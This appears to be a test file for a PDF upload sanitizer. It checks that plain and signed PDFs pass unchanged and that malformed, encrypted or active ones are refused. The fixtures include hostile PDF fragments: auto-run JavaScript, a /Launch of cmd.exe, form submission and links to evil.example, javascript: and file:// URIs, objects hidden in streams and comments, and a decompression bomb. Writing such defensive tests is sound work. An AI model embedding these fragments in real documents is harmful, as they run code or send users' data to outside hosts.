import { changed, packed, PAGES, pdf, refused, stream, withCatalogue, wrapped } from './intake.fixture.js';
import { Intake, INTAKE, type Unfit } from './intake.js';

const intake = new Intake();
afterAll(() => intake.onModuleDestroy());

const expectRefused = (file: Uint8Array, reason: Unfit) =>
  expect(intake.take(file, 'a person')).rejects.toMatchObject(refused(reason));

describe('a PDF', () => {
  test('that only shows pages is kept as it came, byte for byte', async () => {
    const plain = withCatalogue('/OpenAction [3 0 R /Fit]');
    expect(await intake.take(plain, 'a person')).toEqual({ type: 'application/pdf', bytes: plain });
  });

  test('that a carrier has signed is kept byte for byte, as is one with links that a person may follow', async () => {
    const field =
      '<< /FT /Sig /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 /T (Signature1) /V 6 0 R /P 3 0 R >>';
    const signature =
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 840 960 240] ' +
      `/Contents <${'30'.repeat(60)}> /M (D:20261127) >>`;
    const before = withCatalogue('', stream('', Buffer.from('BT (1 0 of a trailer, seen by the object) Tj ET')));
    const signed = Buffer.concat([
      before,
      Buffer.from(
        '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] /SigFlags 3 >> >>\nendobj\n' +
          `5 0 obj\n${field}\nendobj\n6 0 obj\n${signature}\nendobj\n` +
          'trailer\n<< /Root 1 0 R /Size 7 /Prev 400 >>\nstartxref\n700\n%%EOF\n',
      ),
    ]);
    const links = [
      '(https://carrier.example/track?bl=1)',
      '(mailto:desk@carrier.example)',
      '(www.carrier.example)',
      '<68747470733a2f2f612e6578616d706c65>',
      '4 0 R',
    ].map((link) => `<< /Type /Annot /Subtype /Link /Border [0 0 0] /A << /S /URI /URI ${link} >> >>`);
    const linked = withCatalogue(
      '/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /URI << /Base (https://carrier.example/) >>',
      '(tel:+855123)',
      ...links,
    );
    for (const file of [signed, linked])
      expect(await intake.take(file, 'a person')).toEqual({ type: 'application/pdf', bytes: file });
  });

  test.each<[string, Buffer]>([
    ['of five bytes', Buffer.from('%PDF-')],
    ['of words', Buffer.from('%PDF-1.7 and so on')],
    ['cut in the middle', withCatalogue('').subarray(0, 150)],
    ['without a page', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
    ['without a catalogue', pdf(['<< /Type /Nothing >>', ...PAGES])],
    [
      'whose tree of pages bites its tail',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ],
    ['of ten thousand nested lists', withCatalogue('', '['.repeat(10_000) + ']'.repeat(10_000))],
    [
      'whose packed objects are in an unknown code',
      withCatalogue('', '<< /Type /ObjStm /N 1 /First 4 /Filter /Unknown /Length 3 >>\nstream\n1 0\nendstream'),
    ],
    [
      'that hides its packed objects',
      withCatalogue('', changed(packed([9, '<< /Type /Font >>']), '/Type /ObjStm', '/Type 8 0 R  ')),
    ],
    [
      'whose packed objects do not say that they are',
      withCatalogue('', changed(packed([9, '<< /S /JavaScript /JS (x) >>']), '/Type /ObjStm', '')),
    ],
    [
      'whose packed objects lie in the body of a stream',
      withCatalogue(
        '',
        wrapped(
          Buffer.concat([
            Buffer.from('\n8 0 obj\n'),
            packed([9, '<< /S /JavaScript /JS (x) >>']),
            Buffer.from('\nendobj\n'),
          ]),
        ),
      ),
    ],
    [
      'whose packed objects are written in a second code',
      withCatalogue(
        '',
        changed(packed([9, '<< /Type /Font >>']), '/Filter', '/DecodeParms << /Predictor 12 >> /Filter'),
      ),
    ],
    [
      "whose packed objects' code is told elsewhere",
      withCatalogue('', '/FlateDecode', changed(packed([9, '<< /Type /Font >>']), '/FlateDecode', '4 0 R')),
    ],
    [
      'with an object that is longer than anybody reads, in the body of a stream',
      withCatalogue('', wrapped(`\n8 0 obj\n<< /X (${'x'.repeat(70_000)}) /S /JavaScript >>\nendobj\n`)),
    ],
  ])('%s is refused as unreadable', async (_, file) => expectRefused(file, 'UNREADABLE'));

  test('of more parts than any paper has is refused before anybody waits for it', async () => {
    const parts = Array.from({ length: 20_001 }, (_, i) => `${i + 9} 0 obj<<>>endobj`).join('\n');
    await expectRefused(withCatalogue('', Buffer.from(parts)), 'TOO_COMPLEX');
  });

  test.each<[string, Buffer]>([
    ['a script when it opens', withCatalogue('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['a script under an escaped name', withCatalogue('/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
    [
      'a script in a compressed stream',
      withCatalogue('/OpenAction 9 0 R', packed([9, '<< /S /JavaScript /JS (x) >>'])),
    ],
    [
      'a script in the tree of names',
      withCatalogue('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', '<< /S /JavaScript /JS (x) >>'),
    ],
    ['a script that no page refers to', withCatalogue('', '<< /S /JavaScript /JS (x) >>')],
    [
      'a script under another object of the same number',
      Buffer.concat([
        withCatalogue('', '<< /S /JavaScript /JS (x) >>'),
        Buffer.from('4 0 obj\n<< >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
      ]),
    ],
    ['a script in the trailer', pdf([`<< /Type /Catalog /Pages 2 0 R >>`, ...PAGES], { trailer: '/X << /JS (x) >>' })],
    [
      'an action of a page',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        PAGES[0]!,
        '<< /Type /Page /Parent 2 0 R /AA << /O << /S /Named >> >> >>',
      ]),
    ],
    ['a program to launch', withCatalogue('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['a program to launch, named elsewhere', withCatalogue('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '/Launch')],
    ['a form that is sent', withCatalogue('', '<< /S /SubmitForm /F (https://evil.example) >>')],
    ['a form to be filled in', withCatalogue('/AcroForm << /Fields [] >>')],
    ['a leap to another file', withCatalogue('', '<< /Type /Action /S /Thread /F (\\\\evil\\x.pdf) >>')],
    ['an XFA form', withCatalogue('/AcroForm << /Fields [] /XFA 4 0 R >>', stream('', Buffer.from('<xdp/>')))],
    [
      'a script in the body of a stream, where a table may point',
      withCatalogue('/OpenAction 8 0 R', wrapped('\n8 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n')),
    ],
    [
      'a script in a comment',
      withCatalogue('/OpenAction 8 0 R', '<< >>\nendobj\n% 8 0 obj << /S /JavaScript /JS (x) >> endobj'),
    ],
    [
      'a script behind numbers with comments between',
      withCatalogue('/OpenAction 8 0 R', wrapped('\n8 % eight\n0 % zero\nobj << /S /JavaScript /JS (x) >> endobj')),
    ],
    [
      'a script behind such numbers, and what no parser reads',
      withCatalogue('/OpenAction 8 0 R', wrapped('\n8 % eight\n0 % zero\nobj << ?? /S /JavaScript /JS (x) >> endobj')),
    ],
    ['a script in a text', withCatalogue('/OpenAction 8 0 R', '(8 0 obj << /S /JavaScript /JS \\(x\\) >> endobj)')],
    [
      'a catalogue of its own in a trailer that hides in a stream',
      withCatalogue(
        '',
        wrapped('\ntrailer % here\n<< /Root << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >> >>\n'),
      ),
    ],
    ['a leap to a site when it opens', withCatalogue('/OpenAction << /S /URI /URI (https://evil.example) >>')],
    [
      'a leap to a site when it opens, told elsewhere',
      withCatalogue('/OpenAction 4 0 R', '<< /S /URI /URI (https://evil.example) >>'),
    ],
    [
      'a leap to a site when it opens, told by a later version',
      Buffer.concat([
        withCatalogue('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>'),
        Buffer.from(
          '4 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj\n' +
            'trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n',
        ),
      ]),
    ],
    [
      'a leap to a site when it opens, in the body of a stream',
      withCatalogue('/OpenAction 8 0 R', wrapped('\n8 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj\n')),
    ],
    [
      'a leap to a page that goes on to a site',
      withCatalogue('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'),
    ],
    ['a dialogue to print when it opens', withCatalogue('/OpenAction << /S /Named /N /Print >>')],
    ...[
      '(javascript:alert\\(1\\))',
      '(\\152avascript:x)',
      '<6a6176617363726970743a78>',
      '( javascript:x)',
      '(java\nscript:x)',
      '(file:///C:/x.exe)',
      '(\\\\\\\\evil\\\\x)',
      '(x.exe)',
      '4 0 R',
    ].map((link): [string, Buffer] => [
      `a link to ${link}`,
      withCatalogue('', '(vbscript:x)', `<< /S /URI /URI ${link} >>`),
    ]),
    ['links from a script', withCatalogue('/URI << /Base (javascript:x) >>')],
    [
      'a picture from another file',
      withCatalogue('', stream('/Type /XObject /Subtype /Image /F (\\\\evil\\x.png)', Buffer.from(''))),
    ],
    [
      'a picture from another site',
      withCatalogue('', stream('/Type /XObject /F << /FS /URL /F (https://evil.example/x.png) >>', Buffer.from(''))),
    ],
    [
      'a page of another file',
      withCatalogue('', stream('/Type /XObject /Subtype /Form /Ref << /F (x.pdf) /Page 0 >>', Buffer.from(''))),
    ],
    [
      'a form to be filled in beside a signature',
      withCatalogue('/AcroForm << /Fields [4 0 R 5 0 R] >>', '<< /FT /Sig /T (a) >>', '<< /FT /Tx /T (b) >>'),
    ],
    ['a film', withCatalogue('', '<< /Type /Annot /Subtype /RichMedia >>')],
  ])('with %s is refused as active', async (_, file) => expectRefused(file, 'ACTIVE'));

  test.each<[string, Buffer]>([
    [
      'in its tree of names',
      withCatalogue('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', '<< /Type /Filespec /F (a.exe) >>'),
    ],
    ['on a page', withCatalogue('', '<< /Type /Annot /Subtype /FileAttachment >>')],
    ['as a collection', withCatalogue('/Collection << /View /T >>')],
    ['in a compressed stream', withCatalogue('', packed([9, '<< /Type /Filespec /EF << /F 8 0 R >> >>']))],
  ])('with a file attached %s is refused', async (_, file) => expectRefused(file, 'ATTACHMENT'));

  test('that is locked is refused', async () => {
    const encrypt =
      '/Encrypt << /Filter /Standard /V 1 /R 2 /O (12345678901234567890123456789012) ' +
      '/U (12345678901234567890123456789012) /P -4 >> /ID [<00><00>]';
    await expectRefused(pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES], { trailer: encrypt }), 'ENCRYPTED');
  });

  test('that inflates without end ends the process that opens it, and the next file is taken', async () => {
    const small = new Intake({ memory: 200_000_000 });
    const bomb = withCatalogue(
      '',
      stream('/Type /ObjStm /N 1 /First 4', Buffer.concat([Buffer.from('9 0 '), Buffer.alloc(300_000_000, ' ')])),
    );
    expect(bomb.length).toBeLessThan(INTAKE.bytes);
    await expect(small.take(bomb, 'a person')).rejects.toMatchObject(refused('UNREADABLE'));
    expect((await small.take(withCatalogue(''), 'a person')).type).toBe('application/pdf');
    await small.onModuleDestroy();
  });
});
